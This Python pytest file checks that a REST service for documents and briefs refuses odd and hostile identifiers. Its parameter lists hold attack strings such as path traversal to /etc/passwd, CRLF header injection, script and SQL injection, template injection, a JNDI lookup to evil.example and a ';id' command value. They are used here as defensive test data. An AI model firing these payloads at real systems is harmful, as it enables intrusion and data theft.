"""Names that mean something to a file system, a language or a header mean nothing here."""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass

import pytest
import uvicorn
from litestar import Litestar

from tests.rest.services import Client, Services, done, until

PROSE = "Heavy rain flooded the old town of Passau on Monday, the mayor said."
# As they stand in the request line, byte for byte.
IN_PATHS = (
    "..",
    "../",
    "../../etc/passwd",
    "%2e%2e",
    "%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%252e%252e%252fetc",
    "....//....//etc",
    ".",
    "%2e",
    "~",
    "%00",
    "a%00b",
    "a%00.html",
    "%0d%0aX-Evil:%201",
    "%0d%0a%0d%0a<script>alert(1)</script>",
    "%0aX-Evil:1",
    "a%20b",
    "%20",
    "%",
    "%zz",
    "%ff%fe",
    "%c0%ae%c0%ae",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%e2%80%ae",
    "%EF%BC%8E%EF%BC%8E",
    "constructor",
    "__proto__",
    "prototype",
    "toString",
    "null",
    "undefined",
    "NaN",
    "-1",
    "0",
    "1e309",
    "true",
    "'%20OR%20'1'='1",
    "%27%3bDROP%20TABLE%20briefs%3b--",
    "%25",
    "*",
    "{brief_id}",
    "%7b%7b7*7%7d%7d",
    "$%7bjndi:ldap://evil.example/%7d",
    "<script>",
    "CON",
    ";id",
    "a;b=c",
    "a" * 129,
    "a" * 5000,
    "%F0%9F%98%80" * 40,
)
# What a request line cannot hold: the server itself has to refuse these.
RAW = (b"\x00", b"a\x00b", b"a b", b"a\rX-Evil: 1", b"a\nX-Evil: 1", b"\xff\xfe", "ü".encode())
IDS = (
    "",
    " ",
    "..",
    "../x",
    "a/b",
    "a\\b",
    ".hidden",
    "-x",
    "_x",
    "__proto__",
    "a b",
    "a\x00b",
    "a\r\nX-Evil: 1",
    "a\n",
    "ü",
    "a\u202eb",
    "a\u200bb",
    "\ud800",
    "<b>",
    'a"b',
    "a'b",
    "a%2e",
    "a?b",
    "a#b",
    "a" * 129,
    "doc_made_up",
)
ALLOWED_IDS = ("constructor", "prototype", "toString", "null", "0", "a" * 128, "a..b", "a~@:-._b")


@dataclass(frozen=True, slots=True)
class Answer:
    """An answer as it came over the wire."""

    status: int
    head: str
    body: bytes


@contextmanager
def serving(app: Litestar) -> Iterator[int]:
    """Serve an application on a free port, in a thread."""
    listening = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, access_log=False, log_config=None))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    until(lambda: server.started)
    try:
        yield listening.getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(timeout=20)
        listening.close()


def asked(port: int, method: str, target: bytes) -> Answer:
    """Send a request line as it is given; clients would clean it first."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as line:
        head = (
            b"%b %b HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        line.sendall(head % (method.encode(), target))
        said = b""
        while part := line.recv(65_536):
            said += part
    top, _, body = said.partition(b"\r\n\r\n")
    return Answer(int(top.split(b" ")[1]), top.decode("latin-1").lower(), body)


def routes(client: Client) -> list[tuple[str, str]]:
    """Return every method and path that takes an id, as the service itself describes them."""
    described = client.get("/schema/openapi.json").json()["paths"]
    found = [
        (method.upper(), path)
        for path, methods in described.items()
        if "{" in path
        for method in methods
        if method in ("get", "post", "delete", "put", "patch")
    ]
    return [*found, *(("HEAD", path) for method, path in found if method == "GET")]


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Client, int]]:
    with ExitStack() as stack:
        services = Services(folder=tmp_path_factory.mktemp("service"), stack=stack)
        client = services.open()
        yield client, stack.enter_context(serving(services.app()))


def test_every_call_that_takes_an_id_is_known_to_these_tests(opened: tuple[Client, int]) -> None:
    paths = {path for _, path in routes(opened[0])}
    assert {"/v1/documents/{document_id}", "/v1/briefs/{brief_id}"} <= paths
    assert {"/v1/briefs/{brief_id}/events", "/v1/briefs/{brief_id}/rebuild"} <= paths
    assert "/v1/webhooks/deliveries/{delivery_id}/redeliver" in paths


@pytest.mark.parametrize("odd", IN_PATHS)
def test_an_odd_id_in_a_path_is_nobodys(opened: tuple[Client, int], odd: str) -> None:
    client, port = opened
    for method, path in routes(client):
        before, _, after = path.partition("{")
        target = before + odd + after.partition("}")[2]
        answer = asked(port, method, target.encode())
        told = (method, target[:200], answer.status)
        assert 400 <= answer.status < 500, told
        assert "x-evil" not in answer.head, told
        assert b"<script>alert" not in answer.body or "nosniff" in answer.head, told
        assert "text/html" not in answer.head, told
        assert b"root:" not in answer.body, told


@pytest.mark.parametrize("odd", RAW)
def test_bytes_that_no_request_line_holds_are_refused(
    opened: tuple[Client, int], odd: bytes
) -> None:
    client, port = opened
    for method, path in routes(client):
        before, _, after = path.partition("{")
        answer = asked(port, method, before.encode() + odd + after.partition("}")[2].encode())
        assert 400 <= answer.status < 500, (method, path, answer.status)
        assert "x-evil" not in answer.head


@pytest.mark.parametrize("odd", IDS)
def test_an_odd_id_of_a_document_is_refused(opened: tuple[Client, int], odd: str) -> None:
    client, _ = opened
    document = {"content": PROSE, "id": odd}
    for path, body in (
        ("/v1/documents", document),
        ("/v1/documents", {"documents": [document]}),
        ("/v1/briefs", {"documents": [document]}),
        ("/v1/briefs", {"document_ids": [odd]}),
    ):
        sent = json.dumps(body).encode()
        answer = client.post(path, content=sent, headers={"Content-Type": "application/json"})
        assert answer.status_code in (400, 404, 422), (path, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
        assert "x-evil" not in answer.headers


@pytest.mark.parametrize("id", ALLOWED_IDS)
def test_an_id_that_means_something_elsewhere_is_an_id_like_others(
    opened: tuple[Client, int], id: str
) -> None:
    client, port = opened
    document = {"content": f"{PROSE} It was number {id}.", "id": id}
    assert client.post("/v1/documents", json=document).status_code == 201
    assert json.loads(asked(port, "GET", f"/v1/documents/{id}".encode()).body)["id"] == id
    url = done(client, {"document_ids": [id]})
    assert client.get(url).json()["sources"][0]["document_id"] == id
    assert client.get(url, headers={"Accept": "text/html"}).status_code == 200
    assert client.delete(f"/v1/documents/{id}?force=true").status_code == 204
    assert client.get(f"/v1/documents/{id}").status_code == 404


@pytest.mark.parametrize(
    "odd", ["%0d%0aX-Evil:%201", "%00", "%ff", "\u00fc", "<script>", "a" * 4000]
)
def test_an_odd_query_breaks_out_of_no_header(opened: tuple[Client, int], odd: str) -> None:
    client, port = opened
    for id in ("first", "second"):
        client.post("/v1/documents", json={"content": f"{PROSE} It was the {id}.", "id": id})
    for path in ("/v1/documents", "/v1/briefs", "/v1/webhooks/deliveries"):
        for query in (f"limit=1&x={odd}", f"limit=1&{odd}=x"):
            answer = asked(port, "GET", f"{path}?{query}".encode())
            assert answer.status in (200, 400), (path, query, answer.status)
            assert "\r\nx-evil" not in answer.head
        for name in ("limit", "cursor", "status", "since"):
            answer = asked(port, "GET", f"{path}?{name}={odd}".encode())
            assert answer.status < 500, (path, name, answer.status)
            assert "\r\nx-evil" not in answer.head
